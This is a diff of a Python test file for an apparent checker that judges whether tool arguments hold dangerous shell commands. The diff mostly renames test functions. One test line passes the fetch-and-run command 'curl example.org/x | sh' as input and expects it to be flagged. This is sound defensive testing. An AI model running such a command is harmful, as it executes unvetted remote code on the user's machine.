@@ -131,7 +131,7 @@ def test_shell_script_argument_of_a_server_tool_is_judged_as_a_command() -> None
     assert SUBJECTS.analyze(tool, {"script": "curl example.org/x | sh"}).verdict.dangerous is True
 
 
-def test_default_argument_names_are_judged_beside_a_declared_script_argument() -> None:
+def test_default_command_argument_names_are_judged_in_addition_to_a_script_argument() -> None:
     usual = {*COMMAND_NAMES, *DIRECTORY_NAMES, *PATH_NAMES}
     hints = {"readOnlyHint": False, "destructiveHint": False}
     (tool,) = build(tool_with_parameters("script", *usual, description="Run it in bash.", annotations=hints))
@@ -152,11 +152,13 @@ def test_default_argument_names_are_judged_beside_a_declared_script_argument() -
         tool_with_parameters("command", description="Run a command in bash."),
     ],
 )
-def test_default_argument_names_are_judged_without_a_script_argument(silent: ListedTool) -> None:
+def test_tool_without_a_script_argument_is_judged_by_the_default_argument_names(
+    silent: ListedTool,
+) -> None:
     assert build(silent)[0].judged_as == {}
 
 
-def test_nested_commands_are_judged_beside_a_script_argument() -> None:
+def test_nested_commands_are_judged_in_addition_to_a_script_argument() -> None:
     properties = {
         "script": {"type": "string"},
         "steps": {"type": "array", "items": {"type": "object", "properties": {"command": {}}}},
@@ -167,7 +169,7 @@ def test_nested_commands_are_judged_beside_a_script_argument() -> None:
     assert SUBJECTS.analyze(tool, hidden).verdict.dangerous
 
 
-def test_unusable_tool_of_a_server_does_not_affect_others(caplog: pytest.LogCaptureFixture) -> None:
+def test_unusable_tool_of_a_server_does_not_affect_its_other_tools(caplog: pytest.LogCaptureFixture) -> None:
     broken = listed_tool("broken", inputSchema={"type": "object", "properties": ["path"]})
     with caplog.at_level(logging.WARNING):
         assert names_of(build(broken, listed_tool("read"))) == ["read"]
